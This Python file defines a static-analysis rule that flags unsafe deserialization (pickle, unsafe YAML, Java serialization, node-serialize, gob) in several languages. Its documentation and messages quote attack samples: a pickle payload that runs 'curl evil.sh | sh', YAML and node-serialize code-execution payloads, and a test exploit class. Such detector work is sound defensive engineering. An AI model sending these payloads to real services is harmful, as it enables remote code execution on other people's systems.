"""FG502 unsafe-deserialization: bytes turned into live objects by a format that runs code."""

from __future__ import annotations

import dataclasses
from collections.abc import Iterable, Iterator

import tree_sitter

from forge_lsp.core.model import Confidence, Finding, Fix, Severity
from forge_lsp.dataflow import facts
from forge_lsp.rules.base import (
    CheckContext,
    Rule,
    ancestors,
    compile_query,
    line_from,
    replace_node,
)
from forge_lsp.rules.families import crypto, crypto_flow
from forge_lsp.rules.families.crypto import Call

Node = tree_sitter.Node

# Python: module -> the calls of it that deserialize.
_PY_MODULES: dict[str, frozenset[str]] = {
    "pickle": frozenset({"load", "loads", "Unpickler"}),
    "cPickle": frozenset({"load", "loads", "Unpickler"}),
    "_pickle": frozenset({"load", "loads", "Unpickler"}),
    "dill": frozenset({"load", "loads"}),
    "cloudpickle": frozenset({"load", "loads"}),
    "marshal": frozenset({"load", "loads"}),
    "shelve": frozenset({"open"}),
    "jsonpickle": frozenset({"decode"}),
    "pd": frozenset({"read_pickle"}),
    "pandas": frozenset({"read_pickle"}),
    "yaml": frozenset({"load", "load_all", "unsafe_load", "unsafe_load_all"}),
}
_PY_NAMES = frozenset(name for names in _PY_MODULES.values() for name in names)
# PyYAML loaders that construct arbitrary Python objects (`!!python/object/apply:os.system`).
# FullLoader is not listed: since PyYAML 5.4 it refuses the `python/object` tags.
_UNSAFE_LOADERS = frozenset({"Loader", "CLoader", "UnsafeLoader", "CUnsafeLoader"})

_JVM_NAMES = frozenset({"readObject", "readUnshared"})
_JVM_STREAMS = frozenset({"ObjectInputStream", "XMLDecoder"})
_JS_NAMES = frozenset({"unserialize"})
_GO_NAMES = frozenset({"NewDecoder"})

_NODE_SERIALIZE = """
(call_expression function: (identifier) @require
  arguments: (arguments . (string (string_fragment) @module))
  (#eq? @require "require") (#eq? @module "node-serialize"))
(import_statement source: (string (string_fragment) @module) (#eq? @module "node-serialize"))
"""
# Go readers that only wrap another reader: look through them to the source.
_GO_WRAPPERS = {"NewReader": 0, "NewReaderSize": 0, "LimitReader": 0, "MaxBytesReader": 1}
_GO_NET_TYPES = frozenset({"net.Conn", "*net.TCPConn", "*net.UnixConn", "*tls.Conn"})


_DOC = r"""
## What it does

**Flags bytes turned into live objects by a format that can run code while it decodes.**

- Python: `pickle.load` / `loads` / `Unpickler` (also `cPickle`, `_pickle`, `dill`,
  `cloudpickle`), `pandas.read_pickle`, `marshal.load` / `loads`, `shelve.open`,
  `jsonpickle.decode`, `yaml.unsafe_load`, and `yaml.load` / `load_all` with no `Loader` or with
  `Loader` / `CLoader` / `UnsafeLoader`. `SafeLoader`, `BaseLoader` and `FullLoader` are not
  flagged (`FullLoader` refuses the `python/object` tags since PyYAML 5.4), nor is a custom
  loader class. `marshal` runs no code on load (it is only not hardened against crafted
  bytes), so it is an error for untrusted input and information, low, for anything else. A
  round trip of the process's own object (`pickle.loads(pickle.dumps(x))`, or
  bytes the same function just dumped) is a deep copy, not input, and is skipped.
- Java and Kotlin: `readObject()` / `readUnshared()` on an `ObjectInputStream` built in the same
  function (`new ObjectInputStream(in)`, a local or try-with-resources variable, Kotlin's
  `ObjectInputStream(input).use { it.readObject() }`), unless that function sets an
  `ObjectInputFilter`; `XMLDecoder.readObject()`. A stream received as a parameter (the
  `readObject(ObjectInputStream in)` hook of a `Serializable` class) and anonymous subclasses
  (which usually override `resolveClass` with an allow-list) are not flagged.
- JavaScript and TypeScript: `unserialize()` in a file that imports `node-serialize`.
- Go: `gob.NewDecoder(r)` only when `r` is untrusted input by the dataflow, or obviously the
  network: `r.Body` / `req.Body` /
  `resp.Body`, a variable named `conn` / `*Conn`, a `net.Conn` parameter, or one of those
  behind `bufio.NewReader`, `io.LimitReader` or `http.MaxBytesReader`.

Python calls are recognised through their imports too: `from pickle import loads` then
`loads(b)`, `import pickle as pkl`, `from pickle import Unpickler`, `from yaml import load`.

**Severity by where the bytes come from** (the dataflow layer's facts about the data argument;
for Java and Kotlin, the argument of the `ObjectInputStream` / `XMLDecoder` constructor):

- **error** (high confidence): untrusted input reaches it: a request body, form, file upload
  or cookie, a socket, a queue message (the language's source table), also through decoders
  that keep the bytes (`base64.b64decode`, `unhexlify`, `decompress`, `Buffer.from`,
  `DecodeString`). The message names the source and the line it entered. Go's gob findings are
  all errors: they are only reported for a network reader.
- **warning** (medium confidence): the bytes come from a local file (`open(path, "rb")`,
  `Path.read_bytes()`, `new FileInputStream(f)`, `Files.newInputStream`, `os.Open`,
  `fs.readFileSync`, Kotlin `File(p).readBytes()`), looking through `.read()` and wrapper
  streams: whoever can write that file runs code in the process, which is a real but narrower
  risk.
- **info** (low confidence): the bytes come from the object's own in-memory store, named a
  cache or memo (`pickled = self._cache[key]; pickle.loads(pickled)`, a local-memory cache
  that pickles to hand out copies): only this process writes that memory.
- **warning** (medium confidence): any other origin (a parameter, a field, a cache client's
  return value). The format runs code whoever wrote the bytes, so the call is worth a look, but
  only the caller knows who wrote them. A Redis, a database table or a shared directory is not
  "the process's own cache": nothing in the code proves who else can write to it.

Out of reach: a source in another file or function (a helper that returns `request.data` is
followed only within the same file), a file path that is itself user input (the file origin
wins and gives a warning), and stream types built by factories.

The range is the call. Test files are skipped. One fix: `yaml.load(x)` with no other argument
becomes `yaml.safe_load(x)` (and `load_all` becomes `safe_load_all`): `SafeLoader` builds only
plain data, which is what a caller that never chose a loader expects, and on PyYAML 6 the
original call raises `TypeError` anyway (not offered for `from yaml import load`).

## Why it matters in production

These formats do not describe data, they describe **how to rebuild objects**, and the rebuilding
calls functions the bytes choose. A pickle whose `__reduce__` returns
`(os.system, ("curl evil.sh | sh",))` runs that command the moment `pickle.loads` sees it; the
YAML document `!!python/object/apply:os.system ["id"]` does the same through `yaml.load`; a
Java serialized stream walks a gadget chain through your classpath (Commons Collections,
Spring, Groovy) and ends in `Runtime.exec`. No bug in your code is required: the only
precondition is that someone other than you wrote the bytes.

And someone else always ends up writing them: the cookie you pickled "because it was quick",
the Redis your cache shares with three other services, the job payload on a queue a partner
can publish to, the upload that is "only ever produced by our own desktop app". Java
deserialization RCE took down Jenkins, WebLogic and JBoss fleets; pickled session cookies are
how a leaked `SECRET_KEY` turns into a shell. Go's gob is not a code-execution format, but its
docs say plainly it is not hardened against adversarial input: a crafted stream off the wire
exhausts memory or the stack and takes the process down.

## Example

```python
@app.post("/import")
def import_settings():
    settings = pickle.loads(base64.b64decode(request.form["blob"]))
    config = yaml.load(request.files["config"])
```

```java
try (ObjectInputStream in = new ObjectInputStream(socket.getInputStream())) {
    Order order = (Order) in.readObject();
}
```

```javascript
const serialize = require("node-serialize");
const profile = serialize.unserialize(Buffer.from(req.cookies.profile, "base64").toString());
```

```go
func (s *Server) handle(conn net.Conn) {
	var msg Message
	err := gob.NewDecoder(conn).Decode(&msg)
}
```

## Use instead

Use a **data-only format** and validate the shape: JSON (with a schema: pydantic, zod,
Jackson into a DTO), protobuf, msgpack. For YAML, `yaml.safe_load`.

```python
settings = SettingsModel.model_validate_json(request.form["blob"])
config = yaml.safe_load(request.files["config"])
```

```java
Order order = objectMapper.readValue(socket.getInputStream(), Order.class);
// If Java serialization is unavoidable, allow-list the classes first:
in.setObjectInputFilter(ObjectInputFilter.Config.createFilter("com.example.Order;java.base/*;!*"));
```

```typescript
const raw = Buffer.from(req.cookies.profile, "base64").toString();
const profile = ProfileSchema.parse(JSON.parse(raw));
```

```go
dec := json.NewDecoder(http.MaxBytesReader(w, r.Body, 1<<20))
dec.DisallowUnknownFields()
```

If pickle is truly local (a cache file only this process writes), sign it (HMAC) and suppress
the line with `# forge: ignore[FG502]` and a comment saying who can write those bytes.

## How to test it

Feed the endpoint the payload an attacker would send and assert nothing runs:

```python
class Boom:
    def __reduce__(self):
        return (pathlib.Path("/tmp/pwned").touch, ())

def test_import_rejects_object_payloads(client, tmp_path):
    blob = base64.b64encode(pickle.dumps(Boom())).decode()
    response = client.post("/import", data={"blob": blob})
    assert response.status_code == 400
    assert not pathlib.Path("/tmp/pwned").exists()

def test_config_refuses_python_tags():
    with pytest.raises(yaml.constructor.ConstructorError):
        load_config(io.StringIO('!!python/object/apply:os.system ["true"]'))
```

For Java, send a serialized object of a class outside the allow-list and assert
`InvalidClassException`; ysoserial payloads make good fixtures.

## References

- [CWE-502: Deserialization of Untrusted Data](https://cwe.mitre.org/data/definitions/502.html)
- [OWASP Deserialization Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html)
- [Python pickle: the warning](https://docs.python.org/3/library/pickle.html)
- [PyYAML: `yaml.load(input)` deprecation](https://github.com/yaml/pyyaml/wiki/PyYAML-yaml.load(input)-Deprecation)
- [JEP 290: Filter Incoming Serialization Data](https://openjdk.org/jeps/290)
- [Go encoding/gob: Security](https://pkg.go.dev/encoding/gob#hdr-Security)
- [OWASP Top 10 A08:2021 Software and Data Integrity Failures](https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/)
"""


class UnsafeDeserialization(Rule):
    code = "FG502"
    name = "unsafe-deserialization"
    summary = "Data deserialized with pickle, marshal, unsafe YAML, Java serialization and kin"
    severity = Severity.ERROR
    cwe = 502
    languages = frozenset({"python", "go", "javascript", "typescript", "tsx", "java", "kotlin"})
    fixable = True  # `yaml.load(x)` -> `yaml.safe_load(x)` (Python); no other case is mechanical
    doc = _DOC

    def check(self, ctx: CheckContext) -> Iterable[Finding]:
        if ctx.in_test_file:  # tests round-trip their own objects; no one else's bytes arrive
            return
        language = ctx.language.name
        if language == "python":
            yield from self._python(ctx)
        elif language in {"java", "kotlin"}:
            yield from self._jvm(ctx)
        elif language == "go":
            yield from self._go(ctx)
        else:
            yield from self._node(ctx)

    # -- Python ---------------------------------------------------------------------------

    def _python(self, ctx: CheckContext) -> Iterator[Finding]:
        imports = crypto_flow.python_imports(ctx)
        aliases = {a for a, q in imports.items() if _python_target(q) is not None}
        for call in crypto.calls(ctx, _PY_NAMES | aliases):
            target = _python_target(_python_qualified(ctx, call, imports))
            if target is None:
                continue
            module, name = target
            label = f"{module}.{name}()"
            data = call.args[0] if call.args else None
            if data is not None and _round_trip(ctx, data, call.node):
                continue
            if module == "yaml" and name in {"load", "load_all"}:
                finding = self._yaml(ctx, call, name, label)
                if finding is not None:
                    yield self._weighed(ctx, finding, data, call.node)
                continue
            finding = self._weighed(
                ctx, self.finding(call.node, _python_message(module, label)), data, call.node
            )
            if module == "marshal" and finding.severity is not Severity.ERROR:
                # marshal builds code objects but never runs them: only bytes from outside
                # (a crash, a resource bomb) make it a defect; its own files are its format.
                finding = dataclasses.replace(
                    finding,
                    message=_MARSHAL_OWN_BYTES,
                    severity=Severity.INFO,
                    confidence=Confidence.LOW,
                )
            yield finding

    def _weighed(
        self, ctx: CheckContext, finding: Finding, data: Node | None, call: Node
    ) -> Finding:
        """The finding weighed by where `data` comes from: untrusted input is an error, a
        local file or an unknown origin a warning (the format runs code either way)."""
        severity, confidence, origin = _origin(ctx, data, call)
        message = origin + finding.message
        return dataclasses.replace(
            finding, message=message, severity=severity, confidence=confidence
        )

    def _yaml(self, ctx: CheckContext, call: Call, name: str, label: str) -> Finding | None:
        loader = call.keywords.get("Loader") or (call.args[1] if len(call.args) > 1 else None)
        if loader is None:
            if call.splat:
                return None  # `yaml.load(f, **opts)`: the Loader may be in there
            safe = f"yaml.safe_{name}()"
            message = (
                f"`{label}` without a `Loader` builds any Python object the document names "
                f"(`!!python/object/apply:os.system`): use `{safe}`"
            )
            fix = None
            if len(call.args) == 1 and not call.keywords and call.name == name:
                name_node = call.node.child_by_field_name("function")
                attribute = name_node.child_by_field_name("attribute") if name_node else None
                if attribute is not None:
                    edit = replace_node(attribute, f"safe_{name}")
                    fix = Fix(f"Use {safe}", (edit,))
            return self.finding(call.node, message, fix=fix)
        loader_name = crypto.last_name(ctx, loader)
        if loader_name not in _UNSAFE_LOADERS:
            return None
        message = (
            f"`{label}` with `{loader_name}` builds any Python object the document names "
            f"(`!!python/object/apply:os.system`): use `yaml.safe_{name}()` or `SafeLoader`"
        )
        return self.finding(call.node, message)

    # -- Java and Kotlin ------------------------------------------------------------------

    def _jvm(self, ctx: CheckContext) -> Iterator[Finding]:
        for call in crypto.calls(ctx, _JVM_NAMES):
            if call.receiver is None or call.args:
                continue
            stream = _jvm_stream(ctx, call.receiver)
            if stream is None:
                continue
            function = crypto.enclosing_function(call.node)
            if function is not None and _has_filter(ctx, function):
                continue
            kind, constructed = stream
            finding = self.finding(call.node, _jvm_message(kind, call.name))
            yield self._weighed(ctx, finding, _first_argument(constructed), call.node)

    # -- Go -------------------------------------------------------------------------------

    def _go(self, ctx: CheckContext) -> Iterator[Finding]:
        for call in crypto.calls(ctx, _GO_NAMES):
            if call.receiver is None or ctx.text(call.receiver) != "gob" or len(call.args) != 1:
                continue
            fact = _untrusted_source(ctx, call.args[0], 0)
            source = _go_network_source(ctx, call.args[0], call.node)
            if fact is None and source is None:
                continue
            reads = f"`{source or ctx.text(call.args[0])}`"
            if fact is not None and fact.line >= 0:
                detail = "" if fact.detail == ctx.text(call.args[0]) else f"{fact.detail}, "
                reads += f" ({detail}{line_from(fact.line, call.node)})"
            message = (
                f"`gob.NewDecoder()` reads {reads} straight off the network, and gob is not "
                f"hardened against hostile input (a crafted stream exhausts memory or the stack): "
                f"decode untrusted bytes as JSON or protobuf behind a size limit"
            )
            yield self.finding(call.node, message, confidence=Confidence.HIGH)

    # -- JavaScript and TypeScript --------------------------------------------------------

    def _node(self, ctx: CheckContext) -> Iterator[Finding]:
        if not ctx.memo("FG502.node-serialize", lambda: _imports_node_serialize(ctx)):
            return
        for call in crypto.calls(ctx, _JS_NAMES):
            message = (
                "node-serialize's `unserialize()` evaluates functions embedded in its input "
                '(`{"rce":"_$$ND_FUNC$$_function(){...}()"}` runs on arrival): parse with '
                "`JSON.parse` and validate the shape (zod, ajv)"
            )
            finding = self.finding(call.node, message)
            yield self._weighed(ctx, finding, call.args[0] if call.args else None, call.node)


def _first_argument(call: Node) -> Node | None:
    """The first argument of a constructor call (Java `new X(a)`, Kotlin `X(a)`)."""
    arguments = call.child_by_field_name("arguments")
    if arguments is None:
        arguments = next((c for c in call.named_children if c.type == "value_arguments"), None)
    if arguments is None or not arguments.named_children:
        return None
    first = arguments.named_children[0]
    if first.type == "value_argument" and first.named_children:
        return first.named_children[-1]
    return first


def _python_qualified(ctx: CheckContext, call: Call, imports: dict[str, str]) -> str:
    """`pickle.loads` for `pickle.loads(b)`, `pkl.loads(b)` after `import pickle as pkl`, and
    `loads(b)` after `from pickle import loads`; '' for anything else."""
    if call.receiver is None:
        return imports.get(call.name, "")
    if call.receiver.type != "identifier":
        return ""
    module = ctx.text(call.receiver)
    return f"{imports.get(module, module)}.{call.name}"


def _python_target(qualified: str) -> tuple[str, str] | None:
    """(module, call) when `qualified` names a deserializing call (`pandas.read_pickle`)."""
    module, _, name = qualified.rpartition(".")
    if name in _PY_MODULES.get(module, frozenset()):
        return module, name
    return None


def _origin(ctx: CheckContext, data: Node | None, call: Node) -> tuple[Severity, Confidence, str]:
    """Severity, confidence and a leading sentence naming where `data` comes from: untrusted
    input (ERROR, HIGH), a local file (WARNING, MEDIUM), the object's own in-memory cache
    (INFO, LOW), or unknown (WARNING, MEDIUM, no sentence): the format runs code whoever wrote
    the bytes, so an unknown origin is still worth a look, but only input from outside is a
    defect for certain."""
    if data is None:
        return Severity.WARNING, Confidence.MEDIUM, ""
    source = _untrusted_source(ctx, data, 0)
    if source is not None:
        where = f" ({line_from(source.line, call)})" if source.line >= 0 else ""
        return (
            Severity.ERROR,
            Confidence.HIGH,
            f"Untrusted input, {source.detail}{where}, is deserialized here. ",
        )
    opened = crypto_flow.file_source(ctx, data)
    if opened is not None:
        text = " ".join(ctx.text(opened).split())
        text = text if len(text) <= 60 else text[:57] + "..."
        line = line_from(opened.start_point[0], call)
        return (
            Severity.WARNING,
            Confidence.MEDIUM,
            f"The bytes come from a local file (`{text}`, {line}): whoever can write it "
            f"runs code in this process. ",
        )
    store = _own_memory(ctx, data, 0)
    if store is not None:
        return (
            Severity.INFO,
            Confidence.LOW,
            f"The bytes come from this object's in-memory `{store}`, which only this process "
            f"writes (a copy, not input). ",
        )
    return Severity.WARNING, Confidence.MEDIUM, ""


_MEMORY_WORDS = frozenset({"cache", "memo", "memory", "mem", "locmem"})


def _own_memory(ctx: CheckContext, node: Node, depth: int) -> str | None:
    """`self._cache[key]` (or a local assigned from it): an in-process store on the object
    itself, named a cache or memo. Its text, or None."""
    if node.type in {"identifier", "simple_identifier"} and depth < 2:
        values = crypto_flow.assigned(ctx, node)
        found = [_own_memory(ctx, v, depth + 1) for v in values]
        return found[0] if found and all(found) else None
    while node.type in {"subscript", "subscript_expression", "index_expression"}:
        inner = node.child_by_field_name("value") or node.child_by_field_name("object")
        if inner is None:
            return None
        node = inner
    if node.type not in {"attribute", "member_expression", "field_access"}:
        return None
    receiver = node.named_children[0] if node.named_children else None
    if receiver is None or ctx.text(receiver) not in {"self", "this"}:
        return None
    if set(crypto.words(crypto.last_name(ctx, node))) & _MEMORY_WORDS:
        return ctx.text(node)
    return None


# Decoders whose output is their input in another encoding: taint goes through them
# (`pickle.loads(base64.b64decode(request.form["blob"]))`).
_DECODERS = frozenset(
    {"b64decode", "urlsafe_b64decode", "standard_b64decode", "decodebytes", "a2b_base64"}
    | {"unhexlify", "fromhex", "decompress", "decode", "from", "atob", "DecodeString"}
    | {"unquote", "unquote_to_bytes", "loads_base64"}
)


def _untrusted_source(ctx: CheckContext, node: Node, depth: int) -> facts.Fact | None:
    found = facts.untrusted(ctx.flow.value(node))
    if found:
        return found[0]
    if depth > 4:
        return None
    if node.type in {"identifier", "simple_identifier"}:
        for value in crypto_flow.assigned(ctx, node):
            fact = _untrusted_source(ctx, value, depth + 1)
            if fact is not None:
                return fact
        return None
    if node.type not in {"call", "call_expression", "method_invocation"}:
        return None
    function = node.child_by_field_name("function") or node.child_by_field_name("name")
    if crypto.last_name(ctx, function) not in _DECODERS:
        return None
    arguments = node.child_by_field_name("arguments")
    for argument in arguments.named_children if arguments is not None else []:
        fact = _untrusted_source(ctx, argument, depth + 1)
        if fact is not None:
            return fact
    return None


def _round_trip(ctx: CheckContext, arg: Node, call: Node) -> bool:
    """`pickle.loads(pickle.dumps(x))`, or bytes this function just dumped: a deep copy of the
    process's own object, not input from anywhere."""
    if arg.type == "call" and crypto.last_name(ctx, arg.child_by_field_name("function")) == "dumps":
        return True
    if arg.type != "identifier":
        return False
    function = crypto.enclosing_function(call)
    if function is None:
        return False
    name = ctx.text(arg)
    for dumps in crypto.calls_in(ctx, function, frozenset({"dumps"})):
        assignment = dumps.node.parent
        if (
            assignment is not None
            and assignment.type == "assignment"
            and dumps.node.start_byte < call.start_byte
            and crypto.last_name(ctx, assignment.child_by_field_name("left")) == name
        ):
            return True
    return False


_MARSHAL_OWN_BYTES = (
    "`marshal` loads here from a file or value not known to come from outside: marshal runs "
    "no code on load, so this is only a risk if someone else can write these bytes (it is "
    "not hardened against crafted input); prefer JSON for anything that crosses a trust "
    "boundary"
)


def _python_message(module: str, label: str) -> str:
    if module == "jsonpickle":
        what = "jsonpickle rebuilds any class named in the JSON (`py/reduce` calls any function)"
    elif module == "marshal":
        what = "marshal is not safe against crafted bytes and loads code objects"
    elif module == "yaml":
        what = "an unsafe YAML load builds any Python object the document names"
    elif module == "shelve":
        what = "a shelf is a pickle database: every read unpickles, and unpickling runs code"
    else:
        what = "unpickling runs whatever callable the bytes name (`__reduce__` is `os.system`)"
    return (
        f"`{label}`: {what}; use JSON (or msgpack) for anything that crossed a network, "
        f"a queue or a shared disk"
    )


def _jvm_message(stream: str, method: str) -> str:
    if stream == "XMLDecoder":
        return (
            "`XMLDecoder.readObject()` calls any constructor and method the XML names "
            '(`<object class="java.lang.ProcessBuilder">`): parse the XML into a DTO '
            "with Jackson or JAXB instead"
        )
    return (
        f"`ObjectInputStream.{method}()` without an `ObjectInputFilter` instantiates any "
        f"serializable class on the classpath (gadget chains end in `Runtime.exec`): use JSON, "
        f"or set an allow-list filter with `setObjectInputFilter` first"
    )


# The stream's kind (`ObjectInputStream`, `XMLDecoder`) and the expression constructing it.
_Stream = tuple[str, Node]


def _jvm_stream(ctx: CheckContext, receiver: Node) -> _Stream | None:
    """`ObjectInputStream` / `XMLDecoder` when the receiver is one built in this function."""
    constructed = _constructed_stream(ctx, receiver)
    if constructed is not None:
        return constructed
    name = ctx.text(receiver)
    if receiver.type != "identifier":
        return None
    for scope in ancestors(receiver):
        if scope.type in {"lambda_literal"} and name in _lambda_params(ctx, scope):
            return _kotlin_use_receiver(ctx, scope)
        if scope.type in {"method_declaration", "constructor_declaration", "function_declaration"}:
            return _declared_stream(ctx, scope, name, receiver)
    return None


def _constructed_stream(ctx: CheckContext, node: Node) -> _Stream | None:
    """`new ObjectInputStream(in)` (Java) / `ObjectInputStream(input)` (Kotlin)."""
    while node.type == "parenthesized_expression" and node.named_children:
        node = node.named_children[0]
    if node.type == "object_creation_expression":
        if any(child.type == "class_body" for child in node.named_children):
            return None  # an anonymous subclass: usually `resolveClass` with an allow-list
        kind = node.child_by_field_name("type")
    elif node.type == "call_expression" and node.named_children:
        kind = node.named_children[0]
    else:
        return None
    text = ctx.text(kind) if kind is not None else ""
    return (text, node) if text in _JVM_STREAMS else None


def _lambda_params(ctx: CheckContext, lambda_node: Node) -> set[str]:
    params = next((c for c in lambda_node.named_children if c.type == "lambda_parameters"), None)
    if params is None:
        return {"it"}
    return {ctx.text(p) for p in params.named_children}


def _kotlin_use_receiver(ctx: CheckContext, lambda_node: Node) -> _Stream | None:
    """`ObjectInputStream(input).use { it.readObject() }`: the stream `use` was called on."""
    annotated = lambda_node.parent
    call = annotated.parent if annotated is not None else None
    if call is None or call.type != "call_expression" or not call.named_children:
        return None
    callee = call.named_children[0]
    if callee.type != "navigation_expression" or len(callee.named_children) != 2:
        return None
    if ctx.text(callee.named_children[1]) not in {"use", "let", "run", "apply", "also"}:
        return None
    return _constructed_stream(ctx, callee.named_children[0])


def _declared_stream(ctx: CheckContext, function: Node, name: str, use: Node) -> _Stream | None:
    """The stream kind of a local variable declared before `use` in `function`."""
    query = compile_query(ctx.language.name, ctx.language.grammar, _DECLARATIONS[ctx.language.name])
    for _, caps in tree_sitter.QueryCursor(query).matches(function):
        declared, value = caps["name"][0], caps.get("value", [None])[0]
        if ctx.text(declared) != name or declared.start_byte > use.start_byte:
            continue
        # Only a stream constructed right here: one from a factory may well be filtered.
        if value is not None and (stream := _constructed_stream(ctx, value)) is not None:
            return stream
    return None


_DECLARATIONS = {
    "java": """
(variable_declarator name: (identifier) @name value: (_) @value)
(resource name: (identifier) @name value: (_) @value)
""",
    "kotlin": """
(property_declaration (variable_declaration (identifier) @name) . (_) @value)
""",
}


def _has_filter(ctx: CheckContext, function: Node) -> bool:
    return any(True for _ in crypto.calls_in(ctx, function, frozenset({"setObjectInputFilter"})))


def _go_network_source(ctx: CheckContext, arg: Node, call: Node) -> str | None:
    """The text of `arg` when it is obviously a network reader, else None."""
    for _ in range(3):
        if arg.type != "call_expression":
            break
        function = arg.child_by_field_name("function")
        index = _GO_WRAPPERS.get(crypto.last_name(ctx, function))
        args = [a for a in (arg.child_by_field_name("arguments") or arg).named_children]
        if index is None or index >= len(args):
            return None
        arg = args[index]
    text = ctx.text(arg)
    if arg.type == "selector_expression":
        field = arg.child_by_field_name("field")
        operand = crypto.last_name(ctx, arg.child_by_field_name("operand"))
        if field is not None and ctx.text(field) == "Body" and operand in _GO_HTTP_NAMES:
            return text
        return None
    if arg.type != "identifier":
        return None
    if crypto.words(text)[-1:] == ["conn"]:
        return text
    function = crypto.enclosing_function(call)
    params = function.child_by_field_name("parameters") if function is not None else None
    for param in params.named_children if params is not None else []:
        kind = param.child_by_field_name("type")
        names = {ctx.text(n) for n in param.named_children if n.type == "identifier"}
        if text in names and kind is not None and ctx.text(kind) in _GO_NET_TYPES:
            return text
    return None


_GO_HTTP_NAMES = frozenset({"r", "req", "request", "Request", "resp", "res", "response"})


def _imports_node_serialize(ctx: CheckContext) -> bool:
    # The import is at the top of the file, outside any re-checked function: match the root.
    return bool(ctx.file_matches(_NODE_SERIALIZE))


RULE = UnsafeDeserialization()
